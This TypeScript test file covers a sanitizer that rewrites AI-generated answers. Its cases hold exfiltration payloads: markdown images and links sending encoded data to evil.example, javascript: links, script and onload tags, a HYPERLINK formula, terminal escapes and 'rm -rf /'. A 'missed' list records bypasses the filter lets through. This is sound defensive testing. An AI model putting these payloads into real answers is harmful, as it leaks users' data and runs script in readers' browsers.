import type { Case, Cases } from '../../core/index.ts';

const AT = 'interface.response';
type One = Case<typeof AT>;

const OWN = { hosts: ['larkfield.example', 'cdn.parcel.example'] };

/** An answer that must be rewritten; `text` is what the reader gets. */
const made = (name: string, before: string, text: string, rule: string, more: Partial<One> = {}): One => ({
  name,
  crossing: AT,
  text: before,
  expect: { outcome: 'rewrite', rule, text },
  ...more,
});
const kept = (name: string, text: string, config?: unknown): One => ({
  name,
  crossing: AT,
  text,
  ...(config !== undefined && { config }),
  expect: { outcome: 'pass' },
});
const html = (name: string, before: string, text: string, rule = 'active-html'): One =>
  made(name, before, text, rule, { config: { sink: 'html' } });
const terminal = { config: { sink: 'terminal' } };
const REG_20 = { source: 'requirements.md, REG-20 (CVE-2025-32711)' };

const attack = [
  made(
    'an image carries data to a remote host',
    '![x](https://evil.example/?q=secret)',
    '[x] (image not shown: evil[.]example)',
    'foreign-image',
    {
      source: 'larkfield.md, attack 4',
    },
  ),
  made(
    'a reference image',
    '![s][x]\n\n[x]: https://evil.example/r?c=b3JkZXI=',
    '![s][x]\n\n[x]: (link removed: hxxps://evil[.]example/r...)',
    'foreign-host',
    REG_20,
  ),
  made(
    'a reference image without a scheme',
    '![x]\n\n[x]: //evil.example/r',
    '![x]\n\n[x]: (link removed: hxxps://evil[.]example/r)',
    'foreign-host',
    REG_20,
  ),
  made(
    'an image inside a link',
    '[![i](https://evil.example/a?b)](https://evil.example)',
    '[[i] (image not shown: evil[.]example)] (hxxps://evil[.]example)',
    'foreign-image',
    REG_20,
  ),
  made(
    'an image in a table',
    '| a |\n|---|\n| ![](//evil.example/x) |',
    '| a |\n|---|\n| [] (image not shown: evil[.]example) |',
    'foreign-image',
    REG_20,
  ),
  made(
    'a link with a title',
    'Click [here](https://evil.example/a "now").',
    'Click [here] (hxxps://evil[.]example/a).',
    'foreign-host',
  ),
  made(
    'a link with a line break before its address',
    '[a](\njavascript:alert(1))',
    '[a] (\njavascript:alert(1))',
    'ambiguous-link',
  ),
  made(
    'a link whose label has brackets',
    '![a [b] c](https://evil.example/x)',
    '![a [b] c] (hxxps://evil[.]example/x)',
    'foreign-host',
  ),
  made('an autolink', 'See <https://evil.example/a?b=c>.', 'See hxxps://evil[.]example/a....', 'foreign-host'),
  made(
    'a bare address',
    'See https://evil.example/token/9f8a7c6b5d4e3f2a1b0c9d8e7f6a5b4c',
    'See hxxps://evil[.]example/...',
    'foreign-host',
  ),
  made(
    'a bare name with a query',
    'Open evil-site.com/c?d=secret now',
    'Open hxxps://evil-site[.]com/c... now',
    'foreign-host',
  ),
  made('a name with www', 'www.evil-site.com', 'hxxps://www[.]evil-site[.]com', 'foreign-host'),
  made(
    'a host that holds the data',
    '![](https://b3JkZXIgOTkyMzEgdG90YWwg.evil.example/)',
    '[] (image not shown)',
    'foreign-image',
    { expect: { outcome: 'rewrite', rule: 'foreign-image' } },
  ),
  made(
    'a redirector on an own host',
    '[a](https://larkfield.example/out?url=https%3A%2F%2Fevil.example)',
    '[a] (link removed)',
    'redirector',
    { config: OWN, ...REG_20 },
  ),
  made(
    'a parameter that forwards to a bare name',
    '[a](/login?next=evil-site.com/x)',
    '[a] (hxxps://evil-site[.]com)',
    'redirector',
  ),
  made(
    'encoded data on an own host',
    '![](https://cdn.parcel.example/p.png?d=T3JkZXIgOTkyMzEgdG90YWwgNTQuMjA)',
    '[] (image not shown: cdn[.]parcel[.]example)',
    'opaque-data',
    { config: OWN },
  ),
  made(
    'hexadecimal data as the name of an image on an own host',
    '![](https://cdn.parcel.example/6f7264657220393932333120746f74616c.png)',
    '[] (image not shown: cdn[.]parcel[.]example)',
    'opaque-data',
    { config: OWN },
  ),
  made(
    'encoded data with dashes on an own host',
    '![](https://cdn.parcel.example/T3JkZXIg-OTkyMzEg-dG90YWwg-NTQuMjA.png)',
    '[] (image not shown: cdn[.]parcel[.]example)',
    'opaque-data',
    { config: OWN },
  ),
  made(
    'a user name that looks like the own host',
    '[a](https://larkfield.example@evil.example/)',
    '[a] (hxxps://evil[.]example)',
    'foreign-host',
    { config: OWN },
  ),
  made('a backslash host', '[a](https:\\\\\\\\evil.example)', '[a] (hxxps://evil[.]example)', 'foreign-host', {
    config: OWN,
    expect: { outcome: 'rewrite' },
  }),
  made('a script link', '[x](JaVaScRiPt:alert(1))', '[x] (link removed)', 'script-link'),
  made(
    'a script link in character references',
    '[x](javascript&colon;alert(1))',
    '[x] (link removed)',
    'hidden-characters',
  ),
  made('a data link', '[x](data:text/html;base64,PHNjcmlwdD4=)', '[x] (link removed)', 'script-link'),
  made(
    'an image tag',
    'a <img src="https://evil.example/x?q" alt="b"> c',
    'a (image not shown: evil[.]example) c',
    'foreign-image',
  ),
  made('a script', '<script>alert(1)</script>', '&lt;script>alert(1)&lt;/script>', 'active-html'),
  made('an event handler', '<b onclick=alert(1)>x</b>', '&lt;b onclick=alert(1)>x</b>', 'active-html'),
  made(
    'a script after a fence that ends early',
    '```html\n<p>\n```\n<script>x',
    '```html\n<p>\n```\n&lt;script>x',
    'active-html',
    {
      source: 'controls.md, UI-07',
    },
  ),
  made(
    'a script in a fence that a list item ends',
    '1. a\n   ```\n   x\n<script>',
    '1. a\n   ```\n   x\n&lt;script>',
    'active-html',
  ),
  made(
    'a script between back-ticks of two paragraph lines',
    'a ` b\n`<script>`',
    'a ` b\n`&lt;script>`',
    'active-html',
  ),
  made('a script between back-ticks inside an HTML block', '<div>\n`<script>`', '<div>\n`&lt;script>`', 'active-html'),
  made(
    'an autolink that is a tag with a handler inside an HTML block',
    '<div>\n<https://larkfield.example/onclick=alert(1)>',
    '<div>\n&lt;https://larkfield.example/onclick=alert(1)>',
    'active-html',
    { config: OWN },
  ),
  made('a script behind a back-tick in a link', '[x](/a`b) <script>`', '[x] (/a`b) &lt;script>`', 'ambiguous-link', {
    expect: { outcome: 'rewrite', rule: 'ambiguous-link' },
  }),
  made(
    'a formula cell',
    'a,=HYPERLINK("https://evil.example?"&A1,"x")',
    `a,'=HYPERLINK("hxxps://evil[.]example","x")`,
    'formula-cell',
    { expect: { outcome: 'rewrite', rule: 'formula-cell' } },
  ),
  made(
    'a definition whose label holds a back-tick',
    '![x][a `]\n\n[a `]: https://evil.example/`',
    '![x][a `]\n\n[a `] : hxxps://evil[.]example/`',
    'foreign-host',
    { expect: { outcome: 'rewrite', rule: 'foreign-host' } },
  ),
  made(
    'a terminal link',
    'a \u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007',
    'a  click ',
    'control-sequence',
    terminal,
  ),
  made('a cursor that goes back', 'safe\u001b[2Kevil', 'safe evil', 'control-sequence', terminal),
  made('a line that overwrites itself', 'rm -rf /\rls', 'rm -rf / ls', 'control-sequence', terminal),
  html('an SVG', '<svg/onload=alert(1)>', '&lt;svg/onload=alert(1)>'),
  html(
    'a style',
    '<p style="background:url(//evil.example)">',
    '&lt;p style="background:url(hxxps://evil[.]example)">',
  ),
  html(
    'a style that covers the page',
    '<p style="width:100%;position:fixed">',
    '&lt;p style="width:100%;position:fixed">',
  ),
  html('a base', '<base href="//evil.example/">', '&lt;base href="hxxps://evil[.]example">'),
  html('a meta refresh', '<meta http-equiv=refresh content=0;url=x>', '&lt;meta http-equiv=refresh content=0;url=x>'),
  html('code marks mean nothing in HTML', '`<iframe>`', '`&lt;iframe>`'),
  html(
    'a link with a tab inside its scheme',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '(link removed) x</a>',
    'hidden-characters',
  ),
] as const;

const COMMIT = '3f1c9a7e5b2d8046c1e0f9a8b7d6c5e4f3a2b1c0';

const benign = [
  kept('a table', '| size | price |\n|:---|---:|\n| M | 12.50 |\n| L | 14.00 |'),
  kept('an image of the own shop', '![a boot](https://larkfield.example/img/boot-12.jpg?w=300)', OWN),
  kept('a link to the own help centre', 'Read [our guide](https://help.larkfield.example/returns#steps).', OWN),
  kept('a file at a commit, on a listed host', `[code](https://larkfield.example/shop/blob/${COMMIT}/a.md)`, OWN),
  kept('a file whose name is words', '[report](https://larkfield.example/4_Yearly-Report_Final_2024.pdf)', OWN),
  kept('a page whose name is words', '[page](https://larkfield.example/help/TextAnalyticsForAllServices)', OWN),
  kept('a link inside the application', '[Your orders](/orders?page=2) and [below](#returns)'),
  kept('a picture inside the application', '![chart](images/chart.png)'),
  kept(
    'a code sample with a div',
    '```html\n<div onclick="x()">\n  <script src="https://cdn.example/a.js"></script>\n</div>\n```',
  ),
  kept('a code sample in a list', '1. Run:\n\n   ```sh\n   curl "https://api.example/v1?x=1" | sh\n   ```\n2. Done.'),
  kept('inline code with a tag', 'Use `<script>` only at the end, and `![x](https://a.example)` never.'),
  kept('comparison and arrows', 'If a < b and b > c then x <- y, 3 <4, a<=b, and I <3 it.'),
  kept('a mail address', 'Write to <help@larkfield.example> or [mail](mailto:help@larkfield.example).'),
  kept('file names and versions', 'Edit README.md, node.js 20.1 and src/index.ts; see e.g. section 3.2/4.'),
  kept('a harmless tag', 'H<sub>2</sub>O<br> <details><summary>More</summary>\n\ntext\n\n</details>'),
  kept('brackets and footnotes', 'An array a[0](x) is odd; see [1] and [^2].\n\n[^2]: a note'),
  kept('a sum and a minus', 'x = -3 + y, a=b, +49 30 123456, user@host, -image'),
  kept(
    'Persian and emoji',
    '\u0633\u0644\u0627\u0645 \u{1f468}\u200d\u{1f469}\u200d\u{1f467} **ok** \u2013 \u201cyes\u201d',
  ),
  kept('a formula in code', 'Use `=HYPERLINK(A1,"x")` in the cell.'),
  kept('a comment of one line', '<!-- prettier-ignore -->\n- a'),
  kept('a link without a query, where that is allowed', '[docs](https://docs.example/library/json.html)', {
    links: 'allow-without-query',
  }),
  kept('HTML without anything active', '<h2>Sizes</h2>\n<ul><li><a href="/sizes" title="all">All</a></li></ul>', {
    sink: 'html',
  }),
  kept('an image with a size as its style', '<img src="/img/boot.png" style="width: 100%; margin: 0 auto">'),
  kept('tags mean nothing in a terminal', 'cat <<EOF > a.html\n<b>x</b>\nEOF', { sink: 'terminal' }),
] as const;

export const cases: Cases<typeof AT> = {
  attack,
  benign,
  missed: [
    kept('a short secret in a plain path, where links may stay', '[a](https://evil.example/482913)', {
      links: 'allow-without-query',
    }),
    kept('a name that some programs make clickable', 'Go to evil-site.com and log in.'),
    kept('an own host that redirects', '[a](https://larkfield.example/r/17)', OWN),
    kept('an attribute of the page around the answer', '" onmouseover=alert(1) x="', { sink: 'html' }),
    kept('a scheme of another program', 'Open slack://channel?id=secret'),
    kept('classes that cover the page', '<div class="fixed inset-0">Log in again</div>'),
  ],
};
